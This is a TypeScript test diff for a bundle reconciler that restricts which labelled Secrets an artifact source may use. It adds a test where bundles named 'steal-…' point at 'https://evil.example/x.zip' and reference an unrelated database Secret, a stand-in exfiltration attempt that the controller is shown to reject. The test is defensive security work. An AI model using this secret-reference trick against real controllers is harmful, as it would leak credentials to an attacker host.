@@ -46,7 +46,12 @@ class FakeFetcher implements ArtifactFetcher {
 const signingKey = generateSigningKey();
 
 function setup(
-  opts: { encrypted?: boolean; maxFetchTimeoutMs?: number; metrics?: ControllerDomainMetrics } = {},
+  opts: {
+    encrypted?: boolean;
+    maxFetchTimeoutMs?: number;
+    metrics?: ControllerDomainMetrics;
+    sourceSecretLabel?: { key: string; value?: string };
+  } = {},
 ) {
   const client = new FakeObjectClient();
   const recorder = new FakeEventRecorder();
@@ -60,6 +65,7 @@ function setup(
     storagePrefix: 'lu',
     ...(opts.maxFetchTimeoutMs !== undefined ? { maxFetchTimeoutMs: opts.maxFetchTimeoutMs } : {}),
     ...(opts.metrics ? { metrics: opts.metrics } : {}),
+    ...(opts.sourceSecretLabel ? { sourceSecretLabel: opts.sourceSecretLabel } : {}),
   });
   if (opts.encrypted !== false) {
     seedSecret(client, 'demo-key', { 'private.pem': signingKey.privateKeyPem });
@@ -409,6 +415,39 @@ describe('BundleReconciler', () => {
     await reconciler.reconcile(key, ctx());
     expect(seen[0]?.http?.credentials).toEqual({ username: 'ci', password: 's3cr3t-pass' });
     expect(JSON.stringify(bundleOf(client))).not.toContain('s3cr3t-pass');
+  });
+
+  it('uses only Secrets carrying the required label: any other Secret of the namespace is never sent', async () => {
+    const label = { key: 'liveupdate.dev/bundle-source', value: 'true' };
+    const { client, fetcher, reconciler } = setup({ sourceSecretLabel: label });
+    const seen: FetchRequest[] = [];
+    const inner = fetcher.fetch.bind(fetcher);
+    fetcher.fetch = (request) => (seen.push(request), inner(request));
+    fetcher.bodies.set('https://evil.example/x.zip', await webZip());
+    fetcher.bodies.set('https://artifacts.example/demo-1-0-0.zip', await webZip());
+    seedSecret(client, 'database', { username: 'db', password: 'db-password' });
+    seedSecret(client, 'wrong-value', { token: 't' }, { 'liveupdate.dev/bundle-source': 'false' });
+    seedSecret(client, 'ci-creds', { token: 'ci-token' }, { 'liveupdate.dev/bundle-source': 'true' });
+    for (const [name, secret] of [
+      ['steal-1-0-0', 'database'],
+      ['steal-1-0-1', 'wrong-value'],
+    ] as const) {
+      seedBundle(client, name, {
+        version: name.slice(6).replaceAll('-', '.'),
+        source: { http: { url: 'https://evil.example/x.zip', secretRef: { name: secret } } },
+      });
+      await reconciler.reconcile({ namespace: NS, name }, ctx());
+      expect(condition(bundleOf(client, name), 'Stalled')).toMatchObject({
+        reason: 'SourceSecretNotAllowed',
+        message: expect.stringContaining('liveupdate.dev/bundle-source=true') as unknown,
+      });
+    }
+    seedBundle(client, 'demo-1-0-0', {
+      source: { http: { url: 'https://artifacts.example/demo-1-0-0.zip', secretRef: { name: 'ci-creds' } } },
+    });
+    await reconciler.reconcile(key, ctx());
+    expect(seen.map((r) => r.http?.credentials)).toEqual([{ token: 'ci-token' }]);
+    expect(condition(bundleOf(client), 'Ready')?.status).toBe('True');
   });
 
   it('does nothing while suspended', async () => {
